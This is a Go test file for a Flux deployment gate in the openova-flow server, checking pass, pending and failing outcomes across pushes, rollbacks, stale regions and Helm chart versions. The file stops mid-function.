package gate_test

import (
	"cmp"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/openova-io/openova/products/openova-flow/server/flow"
	"github.com/openova-io/openova/products/openova-flow/server/gate"
	"github.com/openova-io/openova/products/openova-flow/server/insight"
)

// Commits in the form of Flux revisions.
var (
	before = written("main", "0")
	a      = written("main", "a")
	b      = written("main", "b")
	c      = written("main", "c")
)

func commit(digit string) string          { return strings.Repeat(digit, 40) }
func written(branch, digit string) string { return branch + "@sha1:" + commit(digit) }

// cluster is one region, as an adapter reports it: a source, its Kustomizations, and releases.
type cluster struct {
	name          string
	source        string // revision
	origin        string // of an artifact: the revision that it was built from
	ref           string // empty: branch main
	url           string // empty: example.com/fleet.git
	sourceKind    string // empty: GitRepository
	namespace     string // of the source; empty: flux-system
	sourceName    string // empty: fleet
	sourceState   string // judgement; empty: ready
	kustomization map[string]unit
	release       map[string]unit // by name; in namespace shop, applied by Kustomization flux-system/apps unless its meta has another
}

// Values of cluster.url: noURL for a source without a URL, unseen for a source that the region does not report.
const noURL, unseen = "none", "unseen"

// unit is a Kustomization or a release.
type unit struct{ meta, judgement, times string }

const (
	ready       = `"state":"ready","gate":"pass"`
	working     = `"state":"working","gate":"wait"`
	unobserved  = `"state":"waiting","gate":"wait","marks":["not-observed"],"cause":{"class":"not-observed"}`
	behind      = `"state":"waiting","gate":"wait","marks":["old-revision"],"cause":{"class":"old-revision"}`
	failed      = `"state":"broken","problem":true,"cause":{"class":"upgrade-failed","sentence":"It failed."}`
	givenUp     = `"state":"broken","problem":true,"final":true,"cause":{"class":"given-up","sentence":"It was given up."}`
	waiting     = `"state":"waiting","gate":"wait"`
	retrying    = `"state":"broken","problem":true,"gate":"wait","marks":["retrying"],"cause":{"class":"upgrade-failed","sentence":"It failed."}`
	suspendedAt = `"state":"suspended","marks":["old-revision"]`
)

// at returns a Kustomization that has applied one revision and tried another.
func at(applied, tried, judgement string) unit {
	ready := "False"
	if strings.Contains(judgement, `"ready"`) || judgement == behind {
		ready = "True"
	}
	return unit{meta: fmt.Sprintf(`,"ready":%q,"revision":%q,"attemptedRevision":%q`, ready, applied, tried), judgement: judgement}
}

// generation returns a release with this newest and this observed generation.
func generation(newest, observed int, judgement string) unit {
	return unit{meta: fmt.Sprintf(`,"generation":%d,"observedGeneration":%d`, newest, observed), judgement: judgement}
}

func (c cluster) nodes() []string {
	node := func(id, label, status, meta, judgement, times string) string {
		return fmt.Sprintf(`{"id":%q,"flowId":"F","region":%q,"label":%q,"status":%q%s,"meta":{%s,"judgement":{%s}}}`, c.name+"/"+id, c.name, label, status, times, meta, judgement)
	}
	url, ref, state := c.url, c.ref, c.sourceState
	kind, namespace, name := cmp.Or(c.sourceKind, "GitRepository"), cmp.Or(c.namespace, "flux-system"), cmp.Or(c.sourceName, "fleet")
	sourceID := kind + "/" + namespace + "/" + name
	switch url {
	case "":
		url = `,"url":"https://example.com/fleet.git"`
	case noURL:
		url = ""
	default:
		url = fmt.Sprintf(`,"url":%q`, url)
	}
	if ref == "" {
		ref = "branch main"
	}
	if state == "" {
		state = ready
	}
	suspended := ""
	if strings.Contains(state, "suspended") {
		suspended = `,"suspended":true`
	}
	var all []string
	if c.url != unseen {
		all = append(all, node(sourceID, name, "succeeded",
			fmt.Sprintf(`"kind":%q,"auxiliary":true,"namespace":%q%s,"ref":%q,"revision":%q,"originRevision":%q,"updatedAt":5,"interval":60000%s`, kind, namespace, url, ref, c.source, c.origin, suspended), state, ""))
	}
	source := fmt.Sprintf(`,"source":%q`, c.name+"/"+sourceID)
	from := fmt.Sprintf(`"source":{"kind":%q,"namespace":%q,"name":%q}`, kind, namespace, name)
	for name, u := range c.kustomization {
		if strings.Contains(u.judgement, `"suspended"`) {
			u.meta += `,"suspended":true`
		}
		all = append(all, node("Kustomization/flux-system/"+name, name, "running",
			`"kind":"Kustomization","namespace":"flux-system",`+from+u.meta, u.judgement+source, u.times))
	}
	for name, u := range c.release {
		if strings.Contains(u.judgement, `"suspended"`) {
			u.meta += `,"suspended":true`
		}
		by := fmt.Sprintf(`,"appliedBy":%q`, c.name+"/Kustomization/flux-system/apps")
		if strings.Contains(u.meta, "appliedBy") {
			by = ""
		}
		all = append(all, node("shop/"+name, name, "running", `"kind":"HelmRelease","namespace":"shop"`+by+u.meta, u.judgement, u.times))
	}
	slices.Sort(all)
	return all
}

// watcher runs the looks of a gate.
type watcher struct {
	t   *testing.T
	g   *gate.Gate
	now int64
}

func watch(t *testing.T, ask gate.Ask) *watcher {
	t.Helper()
	if err := ask.Validate(); err != nil {
		t.Fatal(err)
	}
	return &watcher{t: t, g: gate.New(ask), now: 1_000_000_000_000}
}

func (w *watcher) answer(claims map[string]gate.Claim, clusters ...cluster) *gate.Answer {
	w.t.Helper()
	nodes := []string{}
	for _, c := range clusters {
		nodes = append(nodes, c.nodes()...)
	}
	text := `{"type":"snapshot","flow":{"id":"F","status":"x","startedAt":1},"nodes":[` + strings.Join(nodes, ",") + `],"relationships":[]}`
	m, err := flow.Decode("F", []byte(text))
	if err != nil {
		w.t.Fatal(err)
	}
	w.now += 1000
	return w.g.Look(gate.Look{State: gate.Read(m), Claims: claims, At: w.now})
}

// want looks at some regions and checks the result.
func (w *watcher) want(result string, clusters ...cluster) *gate.Answer {
	w.t.Helper()
	got := w.answer(nil, clusters...)
	if got.Result != result {
		w.t.Errorf("%s, want %s\n%s\n%+v", got.Result, result, got.Line(), got.Objects)
	}
	return got
}

// explained reports whether the object with a name has an outcome, with a sentence that explains it.
func explained(a *gate.Answer, name string, want gate.Outcome) bool {
	return slices.ContainsFunc(a.Objects, func(o gate.Object) bool { return o.Name == name && o.Outcome == want && o.Why != "" })
}

type units = map[string]unit

// region returns a region with one Kustomization, apps.
func region(name, source string, apps unit, releases units) cluster {
	return cluster{name: name, source: source, kustomization: units{"apps": apps}, release: releases}
}

const (
	passed  = insight.Passed
	failing = insight.Failed
	pending = insight.Pending
)

func TestGate_PushIsFetchedLate(t *testing.T) {
	w := watch(t, gate.Ask{Revision: commit("a")})
	for _, source := range []string{before, a} {
		if got := w.want(pending, region("one", source, at(before, before, behind), units{"web": generation(4, 4, ready)})); !explained(got, "apps", gate.Open) {
			t.Errorf("%+v", got.Objects)
		}
	}
	for _, tried := range []string{before, a} {
		if got := w.want(pending, region("one", a, at(before, tried, working), units{"web": generation(4, 4, ready)})); got.Working != 1 {
			t.Error(got.Line())
		}
	}
	w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 4, working)}))
	w.want(passed, region("one", a, at(a, a, ready), units{"web": generation(5, 5, ready)}))
}

// helm-controller is busy when the push comes, so releases are still Ready=True for the old generation.
func TestGate_ControllerIsBusy(t *testing.T) {
	for _, ask := range []gate.Ask{{Revision: a}, {Since: time.Unix(999_999_999, 0)}} {
		w := watch(t, ask)
		apps := at(a, a, ready)
		apps.times = `,"startedAt":1000000000000,"endedAt":1000000000500`
		w.want(pending, region("one", a, apps, units{"web": generation(5, 4, unobserved)}))
		w.want(pending, region("one", a, apps, units{"web": generation(5, 4, working)}))
		w.want(failing, region("one", a, apps, units{"web": generation(5, 5, failed)}))
	}
}

// An upgrade for another reason runs before Flux has fetched the push.
func TestGate_OtherUpgradeRunsFirst(t *testing.T) {
	w := watch(t, gate.Ask{Revision: commit("a")[:12]})
	other := generation(5, 5, ready)
	other.times = `,"startedAt":1000000002000,"endedAt":1000000003000`
	w.want(pending, region("one", before, at(before, before, ready), units{"web": other}))
	w.want(pending, region("one", a, at(before, before, behind), units{"web": other}))
	w.want(passed, region("one", a, at(a, a, ready), units{"web": other}))
}

// Releases failed before, the push repairs them, and helm-controller is busy.
func TestGate_FailedBefore(t *testing.T) {
	old := generation(5, 4, givenUp)
	old.times = `,"startedAt":900000000000,"endedAt":900000001000`
	apps := at(a, a, ready)
	apps.times = `,"startedAt":1000000002000,"endedAt":1000000003000`
	for _, ask := range []gate.Ask{{Revision: a}, {Since: time.Unix(1_000_000_001, 0)}} {
		w := watch(t, ask)
		untouched := old
		untouched.meta = `,"generation":4,"observedGeneration":4`
		w.want(pending, region("one", before, at(before, before, ready), units{"web": untouched, "db": untouched}))
		got := w.want(pending, region("one", a, apps, units{"web": old, "db": old}))
		if got.Total != 3 || got.Done != 1 || got.Waiting != 2 || !explained(got, "web", gate.Open) {
			t.Errorf("%s: want the earlier failures to be waiting", got.Line())
		}
		w.want(pending, region("one", a, apps, units{"web": generation(5, 5, ready), "db": generation(5, 4, working)}))
		w.want(passed, region("one", a, apps, units{"web": generation(5, 5, ready), "db": generation(5, 5, ready)}))
		w.want(failing, region("one", a, apps, units{"web": generation(5, 5, ready), "db": generation(5, 5, givenUp)}))
	}
}

// An earlier failure fails the gate if the controller does not observe the change within 11 minutes.
func TestGate_ControllerIsDead(t *testing.T) {
	w := watch(t, gate.Ask{Revision: a})
	w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 4, givenUp)}))
	w.now += (11 * time.Minute).Milliseconds() - 1000
	w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 4, givenUp)}))
	w.want(failing, region("one", a, at(a, a, ready), units{"web": generation(5, 4, givenUp)}))

	watch(t, gate.Ask{Revision: a}).want(passed, region("one", a, at(a, a, ready), units{"web": generation(5, 4, ready)})) // no failure before

	// A judgement about the change, or one with a missing need, does not wait for the controller.
	for _, judgement := range []string{strings.Replace(givenUp, `"problem"`, `"marks":["not-observed"],"problem"`, 1), `"state":"waiting","since":1,"needs":["one/shop/gone"]`} {
		watch(t, gate.Ask{Revision: a}).want(failing, region("one", a, at(a, a, ready), units{"web": generation(5, 4, judgement)}))
	}
}

// The adapter is down.
func TestGate_StaleRegion(t *testing.T) {
	stale := map[string]gate.Claim{"one": {Stale: true, LastSeen: 999_999_999_000}, "two": {}}
	one := region("one", a, at(a, a, ready), units{"web": generation(5, 5, ready)})
	broken := region("one", a, at(a, a, ready), units{"web": generation(5, 5, givenUp)})
	two := region("two", a, at(a, a, ready), nil)
	for name, ask := range map[string]gate.Ask{"all": {}, "revision": {Revision: a}, "region": {Region: "one"}, "release": {Releases: []gate.Release{{Name: gate.Name{Namespace: "shop", Name: "web"}}}}} {
		w := watch(t, ask)
		for _, state := range []cluster{one, broken} {
			got := w.answer(stale, state, two)
			if got.Result != pending || len(got.Stale) != 1 || got.Stale[0].Region != "one" || !explained(got, got.Objects[0].Name, gate.Open) {
				t.Errorf("%s: %s, stale %v", name, got.Result, got.Stale)
			}
		}
		w.want(passed, one, two)
	}
	for _, ask := range []gate.Ask{{Region: "two"}, {Revision: a, Region: "two"}} {
		if got := watch(t, ask).answer(stale, one, two); got.Result != passed || len(got.Stale) != 0 {
			t.Errorf("the other region: %s, stale %v", got.Result, got.Stale)
		}
	}
	for _, region := range []string{"", "empty"} {
		if got := watch(t, gate.Ask{Region: region}).answer(map[string]gate.Claim{"empty": {Stale: true}}, two); got.Result != pending || len(got.Stale) != 1 {
			t.Errorf("a region without nodes: %s, stale %v", got.Result, got.Stale)
		}
	}
	both := map[string]gate.Claim{"one": {Stale: true}, "two": {Stale: true}}
	if got := watch(t, gate.Ask{Region: "one"}).answer(both, one, two); got.Result != pending || len(got.Stale) != 1 || got.Stale[0].Region != "one" {
		t.Errorf("one of two stale regions: %s, stale %v", got.Result, got.Stale)
	}
}

// A webhook triggers Flux at once, and the gate starts after the run has begun or ended.
func TestGate_StartsLate(t *testing.T) {
	for _, ask := range []gate.Ask{{Revision: commit("a")}, {Revision: a, SinceStart: true}} {
		w := watch(t, ask)
		web := generation(5, 5, working)
		web.times = `,"startedAt":1000000000000`
		w.want(pending, region("one", a, at(a, a, ready), units{"web": web}))
		w.want(passed, region("one", a, at(a, a, ready), units{"web": generation(5, 5, ready)}))
		watch(t, ask).want(passed, region("one", a, at(a, a, ready), units{"web": generation(5, 5, ready)}))
	}
}

// The run begins within the second in which the gate starts. Times in Flux are whole seconds.
func TestGate_SinceCountsWholeSeconds(t *testing.T) {
	web := generation(5, 5, ready)
	web.times = `,"startedAt":1000000039000,"endedAt":1000000041000`
	one := region("one", a, at(a, a, ready), units{"web": web})
	for since, want := range map[int64]string{1_000_000_039_117: passed, 1_000_000_040_000: pending} {
		got := watch(t, gate.Ask{Since: time.UnixMilli(since)}).want(want, one)
		if got.Started != (want == passed) {
			t.Errorf("since %d: started %v", since, got.Started)
		}
	}
	w := watch(t, gate.Ask{SinceStart: true}) // by the server's clock
	w.now = 1_000_000_038_117
	w.want(passed, one)

	w = watch(t, gate.Ask{SinceStart: true})
	w.now = 1_000_000_039_000
	w.want(pending, one) // of a run before
	w.now += 20_000
	web.times = `,"startedAt":1000000040000,"endedAt":1000000041000`
	w.want(passed, region("one", a, at(a, a, ready), units{"web": web}))
}

// The revision of a source that is not reported is the one that its Kustomization tried.
func TestGate_SourceIsNotReported(t *testing.T) {
	one := cluster{name: "one", url: unseen, kustomization: units{"apps": at(a, a, ready), "new": at("", "", working)},
		release: units{"web": {`,"attemptedRevision":"1.0.0","chart":{"sourceRevision":"` + a + `"},"source":{"kind":"GitRepository","namespace":"flux-system","name":"fleet"}`, ready, ""}}}
	if got := watch(t, gate.Ask{Revision: a}).want(pending, one); len(got.Sources) != 1 || got.Sources[0].Revision != a || !got.Sources[0].Has || got.Done != 2 {
		t.Errorf("%s, %+v", got.Line(), got.Sources)
	}
	one.name = "eu/one"
	if got := watch(t, gate.Ask{Revision: a}).want(pending, one); len(got.Sources) != 1 || got.Sources[0].Region != "eu/one" {
		t.Errorf("the sources of region eu/one are %+v", got.Sources)
	}
}

// The Kustomizations of a source that is not reported tried different revisions. Their order does not matter.
func TestGate_SourceIsNotReportedAndKustomizationsDiffer(t *testing.T) {
	for _, names := range [][2]string{{"apps", "more"}, {"more", "apps"}} {
		differ := func(first, second unit) cluster {
			return cluster{name: "one", url: unseen, kustomization: units{names[0]: first, names[1]: second}}
		}
		stopped := differ(at(a, a, ready), at(before, before, suspendedAt))
		if got := watch(t, gate.Ask{Revision: a}).want(failing, stopped); !explained(got, names[1], gate.Failed) || !got.Sources[0].Has {
			t.Errorf("%q: %s", names, got.Line())
		}
		w := watch(t, gate.Ask{Revision: a})
		w.want(pending, differ(at(a, a, ready), at(before, before, working)))
		w.want(pending, differ(at(b, b, ready), at(before, before, working)))
		w.want(passed, differ(at(b, b, ready), at(a, a, ready)))
		w.want(pending, differ(at(b, b, ready), at(before, before, ready)))
	}
}

// A run that began before the given time and fails after it is a failure, even if no run has begun since.
func TestGate_FailsAfterSince(t *testing.T) {
	for ended, want := range map[int64]string{1_000_000_000_000: failing, 999_999_999_999: pending} {
		web := generation(5, 5, failed)
		web.times = fmt.Sprintf(`,"startedAt":999999990000,"endedAt":%d`, ended)
		got := watch(t, gate.Ask{Since: time.Unix(1_000_000_000, 0)}).want(want, cluster{name: "one", release: units{"web": web}})
		if got.Started {
			t.Error("a run has begun")
		}
	}
}

// Before a run has begun, a failure from before the given time does not count.
func TestGate_OldFailures(t *testing.T) {
	const old, recent = 999_999_999_999, 1_000_000_000_000
	suspended := func(since int64) cluster {
		return cluster{name: "one", release: units{"web": {"", fmt.Sprintf(`"state":"suspended","since":%d`, since), ""}}}
	}
	source := func(since int64) cluster {
		c := region("one", before, at(before, before, ready), nil)
		c.sourceState = fmt.Sprintf(`"state":"broken","since":%d,"problem":true,"cause":{"class":"fetch-failed"}`, since)
		return c
	}
	two := func(first, second int64) cluster {
		db, web := generation(5, 5, failed), generation(5, 5, failed)
		db.times, web.times = fmt.Sprintf(`,"endedAt":%d`, first), fmt.Sprintf(`,"endedAt":%d`, second)
		return cluster{name: "one", release: units{"db": db, "web": web}}
	}
	both := func(began, ended int64) cluster {
		db, web := generation(5, 5, failed), generation(5, 5, ready)
		db.times, web.times = fmt.Sprintf(`,"startedAt":1,"endedAt":%d`, ended), fmt.Sprintf(`,"startedAt":%d`, began)
		return cluster{name: "one", release: units{"db": db, "web": web, "queue": {judgement: `"state":"waiting","needs":["one/shop/db"]`}}}
	}
	for _, tt := range []struct {
		name, want string
		one        cluster
	}{
		{"suspended before", pending, suspended(old)},
		{"suspended since", failing, suspended(recent)},
		{"a source failed before", pending, source(old)},
		{"a source failed since", failing, source(recent)},
		{"failed before, and blocks another one", pending, both(old, old)},
		{"failed since, and blocks another one", failing, both(old, recent)},
		{"a run has begun", failing, both(recent, old)},
		{"two failed before", pending, two(old, old)},
		{"the first of two failed since", failing, two(recent, old)},
		{"the second of two failed since", failing, two(old, recent)},
		{"failed at an unknown time", failing, cluster{name: "one", release: units{"web": generation(5, 5, failed)}}},
	} {
		if got := watch(t, gate.Ask{Since: time.UnixMilli(recent)}).answer(nil, tt.one); got.Result != tt.want {
			t.Errorf("%s: %s, want %s: %s", tt.name, got.Result, tt.want, got.Line())
		}
	}
}

func TestGate_FailureIsRetried(t *testing.T) {
	for _, tt := range []struct {
		end, result string
	}{{ready, passed}, {givenUp, failing}} {
		w := watch(t, gate.Ask{Revision: a})
		w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 5, working)}))
		w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 5, retrying)}))
		w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 5, working)}))
		if got := w.want(tt.result, region("one", a, at(a, a, ready), units{"web": generation(5, 5, tt.end)})); got.Final != (tt.result == failing) {
			t.Errorf("%s: final %v", tt.result, got.Final)
		}
	}
}

// TestGate_KustomizationWaits has a Kustomization apps that depends on infra, and both check the health of what they apply.
func TestGate_KustomizationWaits(t *testing.T) {
	w := watch(t, gate.Ask{Revision: a})
	two := func(infra, apps unit, web unit) cluster {
		return cluster{name: "one", source: a, kustomization: units{"infra": infra, "apps": apps}, release: units{"web": web}}
	}
	waits := func(u unit) unit {
		u.judgement = `"state":"waiting","needs":["one/Kustomization/flux-system/infra"],"cause":{"class":"dependency-not-ready"}`
		return u
	}
	w.want(pending, two(at(before, a, working), waits(at(before, before, ready)), generation(4, 4, ready)))
	w.want(pending, two(at(a, a, ready), at(before, a, working), generation(5, 5, working)))
	w.want(passed, two(at(a, a, ready), at(a, a, ready), generation(5, 5, ready)))

	w = watch(t, gate.Ask{Revision: a})
	got := w.want(pending, two(at(before, before, failed), waits(at(before, before, ready)), generation(4, 4, ready))) // it failed at the commit before
	if apps := got.Objects[0]; apps.Outcome != gate.Open || !slices.Equal(apps.HeldBy, []string{"one/Kustomization/flux-system/infra"}) || len(got.Problems) != 0 {
		t.Errorf("%+v, %+v", apps, got.Problems)
	}
	got = w.want(failing, two(at(before, a, failed), waits(at(before, before, ready)), generation(4, 4, ready)))
	if len(got.Problems) != 1 || got.Problems[0].ID != "one/Kustomization/flux-system/infra" || got.Problems[0].Blocks != 1 {
		t.Errorf("%+v", got.Problems)
	}
}

// A Kustomization that failed before and does not try the commit fails the gate after 11 minutes; at once if its judgement is about the untried commit.
func TestGate_KustomizationDoesNotTry(t *testing.T) {
	w, one := watch(t, gate.Ask{Revision: a}), region("one", a, at(before, before, failed), nil)
	w.want(pending, one)
	w.now += (11 * time.Minute).Milliseconds() - 1000
	w.want(pending, one)
	w.want(failing, one)
	w, one = watch(t, gate.Ask{Revision: a}), region("one", a, at(before, before, ready), nil)
	w.want(pending, one)
	w.now += (12 * time.Minute).Milliseconds()
	if got := w.want(pending, one); !explained(got, "apps", gate.Open) {
		t.Errorf("%+v", got.Objects)
	}
	w, one = watch(t, gate.Ask{Revision: a}), region("one", a, at(before, before, `"state":"waiting","marks":["old-revision"]`), nil)
	for _, want := range []gate.Outcome{gate.Open, gate.Failed} {
		if got := w.want(pending, one); got.Objects[0].Outcome != want {
			t.Errorf("%+v, want %s", got.Objects, want)
		}
		w.now += (12 * time.Minute).Milliseconds()
	}
	for _, mark := range []string{"not-observed", "old-revision"} {
		marked := strings.Replace(failed, `"problem"`, `"marks":["`+mark+`"],"problem"`, 1)
		watch(t, gate.Ask{Revision: a}).want(failing, region("one", a, at(before, before, marked), nil))
	}
	watch(t, gate.Ask{Revision: a}).want(pending, region("one", a, at(before, a, ready), nil)) // tried, and not applied
}

func TestGate_AllRegionsOfTheSource(t *testing.T) {
	done := func(name string) cluster { return region(name, a, at(a, a, ready), nil) }
	late := region("two", before, at(before, before, ready), nil)
	w := watch(t, gate.Ask{Revision: a})
	got := w.want(pending, done("one"), late)
	if len(got.Sources) != 2 || !got.Sources[0].Has || got.Sources[1].Has || got.Sources[1].Revision != before || got.Sources[1].Interval != 60_000 ||
		strings.Join(got.Sources[1].Command, " ") != "flux reconcile source git fleet -n flux-system" {
		t.Errorf("%+v", got.Sources)
	}
	for kind, command := range map[string]string{"OCIRepository": "flux reconcile source oci fleet -n flux-system", "Bucket": "flux reconcile source bucket fleet -n flux-system", "ExternalArtifact": ""} {
		other := late
		other.sourceKind = kind
		if got := watch(t, gate.Ask{Revision: a}).want(pending, other).Sources; len(got) != 1 || strings.Join(got[0].Command, " ") != command {
			t.Errorf("%s: %+v", kind, got)
		}
	}
	w.want(passed, done("one"), done("two"))
	if got := watch(t, gate.Ask{Revision: a, Region: "one"}).want(passed, done("one"), late); len(got.Sources) != 1 {
		t.Errorf("%+v", got.Sources)
	}

	other := late
	other.url = "https://example.com/another"
	watch(t, gate.Ask{Revision: a}).want(passed, done("one"), other)
	staging := late
	staging.ref = "branch staging"
	watch(t, gate.Ask{Revision: a}).want(passed, done("one"), staging)
	other.url = "ssh://Example.com/fleet/"
	watch(t, gate.Ask{Revision: a}).want(pending, done("one"), other) // the same repository
}

func TestGate_Overtaken(t *testing.T) {
	t.Run("after the gate has seen it", func(t *testing.T) {
		w := watch(t, gate.Ask{Revision: a})
		w.want(pending, region("one", a, at(before, before, behind), nil))
		w.want(pending, region("one", b, at(before, b, working), nil))
		w.want(passed, region("one", b, at(b, b, ready), nil))
	})
	t.Run("before the gate has seen it", func(t *testing.T) {
		w := watch(t, gate.Ask{Revision: a})
		w.want(pending, region("one", b, at(b, b, ready), nil))
		w.want(pending, region("one", c, at(c, c, ready), nil))
	})
	t.Run("while it is applied", func(t *testing.T) {
		watch(t, gate.Ask{Revision: a}).want(passed, region("one", a, at(a, a, ready), nil))
		w := watch(t, gate.Ask{Revision: a})
		w.want(pending, region("one", a, at(a, a, working), nil))
		w.want(passed, region("one", b, at(a, a, behind), nil)) // it has not tried the later one
		w.want(passed, region("one", b, at(a, b, failed), nil)) // the later one does not matter
		w.want(passed, region("one", b, unit{at(a, a, ready).meta, working, ""}, nil))
		w.want(passed, region("one", b, at(a, a, waiting), nil))
		w.want(pending, region("one", a, at(a, a, waiting), nil))
		w.want(pending, region("one", b, at(a, a, working), nil))
		w.want(failing, region("one", b, at(a, a, failed), nil))
	})
	t.Run("rolled back to it", func(t *testing.T) { // a, b, a again: this gate is for the second a
		w := watch(t, gate.Ask{Revision: a})
		w.want(pending, region("one", b, at(b, b, ready), nil))
		w.want(pending, region("one", a, at(b, b, behind), nil))
		w.want(pending, region("one", a, at(b, a, working), nil))
		w.want(passed, region("one", a, at(a, a, ready), nil))

		w = watch(t, gate.Ask{Revision: a}) // b was never finished
		w.want(pending, region("one", b, at(a, b, failed), nil))
		w.want(pending, region("one", a, at(a, b, failed), nil))
		w.want(passed, region("one", a, at(a, a, ready), nil))
	})
	t.Run("rolled back from it", func(t *testing.T) {
		w := watch(t, gate.Ask{Revision: a})
		w.want(pending, region("one", before, at(before, before, ready), nil))
		w.want(pending, region("one", a, at(before, before, behind), nil))
		got := w.want(failing, region("one", before, at(before, before, ready), nil))
		if !got.Sources[0].Left || !got.Final || got.Failed != 1 || !explained(got, "apps", gate.Failed) {
			t.Errorf("%+v, final %v, %s", got.Sources, got.Final, got.Line())
		}
		broken := region("one", before, at(before, before, ready), nil)
		broken.sourceState = failed
		if got = w.want(failing, broken); len(got.Problems) != 1 || !got.Problems[0].Final {
			t.Errorf("%+v", got.Problems)
		}
	})
	t.Run("an artifact that was built from it", func(t *testing.T) {
		digest := func(digit string) string { return "latest@sha256:" + strings.Repeat(digit, 64) }
		oci := func(source, origin string, apps unit) cluster {
			return cluster{name: "one", sourceKind: "OCIRepository", ref: "tag latest", source: source, origin: origin, kustomization: units{"apps": apps}}
		}
		w := watch(t, gate.Ask{Revision: commit("a")})
		w.want(pending, oci(digest("1"), a, at(digest("0"), digest("0"), behind)))
		w.want(pending, oci(digest("2"), b, at(digest("0"), digest("1"), working)))
		if got := w.want(passed, oci(digest("2"), b, at(digest("1"), digest("2"), failed))); got.Done != 1 { // the later one does not matter
			t.Error(got.Line())
		}
	})
}

// A source-controller that restarts without its storage reports a source without a revision, until it has fetched again.
func TestGate_SourceWithoutRevisionIsPending(t *testing.T) {
	w := watch(t, gate.Ask{Revision: a})
	w.want(pending, region("one", a, at(before, before, behind), nil))
	got := w.want(pending, region("one", "", at(before, a, working), nil))
	if len(got.Sources) != 1 || got.Sources[0].Has || got.Sources[0].Left || !explained(got, "apps", gate.Open) {
		t.Errorf("%+v, %+v", got.Sources, got.Objects)
	}
	w.want(passed, region("one", a, at(a, a, ready), nil))
}

func TestGate_KustomizationSuspendedAtOldCommit(t *testing.T) {
	w := watch(t, gate.Ask{Revision: a})
	got := w.want(pending, cluster{name: "one", source: a, kustomization: units{"apps": at(before, before, suspendedAt), "infra": at(before, a, working)}})
	if got.Final {
		t.Error("a pending answer is final")
	}
	got = w.want(failing, cluster{name: "one", source: a, kustomization: units{"apps": at(before, before, suspendedAt), "infra": at(a, a, ready)}})
	if !got.Final || got.Suspended != 1 || got.Done != 1 || !explained(got, "apps", gate.Failed) {
		t.Errorf("final %v, %s", got.Final, got.Line())
	}
}

func TestGate_SourceIsDead(t *testing.T) {
	dead := region("one", before, at(before, before, ready), nil)
	dead.sourceState = `"state":"broken","since":1,"problem":true,"cause":{"class":"fetch-failed","sentence":"It can't be fetched."}`
	got := watch(t, gate.Ask{Revision: a}).want(failing, dead)
	if len(got.Problems) != 1 || got.Problems[0].ID != "one/GitRepository/flux-system/fleet" || got.Problems[0].Region != "one" || got.Problems[0].Since != flow.At(1) {
		t.Errorf("%+v", got.Problems)
	}
	if apps := got.Objects[0]; apps.Outcome != gate.Failed || apps.Why == "" || got.Final {
		t.Errorf("%+v, final %v", apps, got.Final)
	}
	dead.sourceState = `"state":"suspended","gate":"pass"`
	if got := watch(t, gate.Ask{Revision: a}).want(failing, dead); !got.Final || !explained(got, "apps", gate.Failed) {
		t.Error("a suspended source is not final")
	}
	watch(t, gate.Ask{Revision: a}).want(pending, dead, region("two", before, at(before, before, ready), nil)) // another source may get it
}

func TestGate_NamedObjects(t *testing.T) {
	apps, web := gate.Name{Namespace: "flux-system", Name: "apps"}, gate.Name{Namespace: "shop", Name: "web"}
	state := cluster{name: "one", source: a, kustomization: units{"apps": at(a, a, ready), "infra": at(before, a, failed)},
		release: units{"web": generation(5, 5, ready), "db": generation(2, 2, failed), "dns": {`,"appliedBy":"one/Kustomization/flux-system/infra"`, failed, ""}}}
	for _, tt := range []struct {
		ask    gate.Ask
		result string
		total  int
	}{
		{gate.Ask{}, failing, 5},
		{gate.Ask{Revision: a}, failing, 5},
		{gate.Ask{Revision: a, Kustomizations: []gate.Name{apps}}, failing, 3},
		{gate.Ask{Revision: a, Releases: []gate.Release{{Name: web}}}, passed, 2},
		{gate.Ask{Releases: []gate.Release{{Name: web}}}, passed, 1},
		{gate.Ask{Kustomizations: []gate.Name{{Namespace: "flux-system", Name: "infra"}}, Releases: []gate.Release{{Name: web}}}, failing, 3},
		{gate.Ask{Revision: b, Releases: []gate.Release{{Name: web}}}, pending, 2},
		{gate.Ask{Releases: []gate.Release{{Name: gate.Name{Namespace: "shop", Name: "nothing"}}}}, pending, 0},
	} {
		if got := watch(t, tt.ask).want(tt.result, state); got.Total != tt.total {
			t.Errorf("%+v: %d objects, want %d", tt.ask, got.Total, tt.total)
		}
	}
}

func TestGate_ChartVersions(t *testing.T) {
	web := gate.Name{Namespace: "shop", Name: "web"}
	is := func(applied, tried, judgement string) cluster {
		return region("one", a, at(a, a, ready), units{"web": {fmt.Sprintf(`,"versionApplied":%q,"revision":%q`, applied, tried), judgement, ""}})
	}
	for _, ask := range []gate.Ask{{Releases: []gate.Release{{Name: web, Version: "1.1.0"}}}, {Revision: "1.1.0", Releases: []gate.Release{{Name: web}}}} {
		w := watch(t, ask)
		if got := w.want(pending, is("1.0.0", "1.0.0", ready)); !explained(got, "web", gate.Open) {
			t.Errorf("%+v", got.Objects)
		}
		w.want(pending, is("1.0.0", "1.1.0", ready))
		w.want(pending, is("1.0.0", "1.0.0", givenUp)) // of the version before
		w.want(pending, is("1.0.0", "1.1.0", working))
		if got := w.want(pending, is("1.0.0", "1.1.0", retrying)); got.Failed != 1 || got.Objects[0].Outcome != gate.Open {
			t.Errorf("%s: %+v", got.Line(), got.Objects)
		}
		w.want(failing, is("1.0.0", "1.1.0", givenUp))
		wanted := is("1.0.0", "1.0.0", givenUp)
		wanted.release["web"] = unit{wanted.release["web"].meta + `,"versionWanted":"1.1.0"`, givenUp, ""}
		w.want(failing, wanted)
		if got := w.want(failing, is("1.0.0", "1.0.0", suspendedAt)); !got.Final || got.Objects[0].Revision != "1.0.0" || !explained(got, "web", gate.Failed) {
			t.Errorf("final %v, %+v", got.Final, got.Objects)
		}
		w.want(passed, is("v1.1.0", "1.1.0", ready))
		w.want(pending, is("", "", ready))
		w.want(passed, is("1.1.0", "1.1.0", ready))
		w.want(passed, is("1.1.0+14c32b1e94d0", "1.1.0+14c32b1e94d0", ready))
		w.want(pending, is("1.2.0", "1.2.0", ready))
	}

	for _, version := range []string{"1.1.0+x", "+x"} {
		ask := gate.Ask{Releases: []gate.Release{{Name: web, Version: version}}}
		watch(t, ask).want(pending, is("", "", ready))
		if version != "+x" {
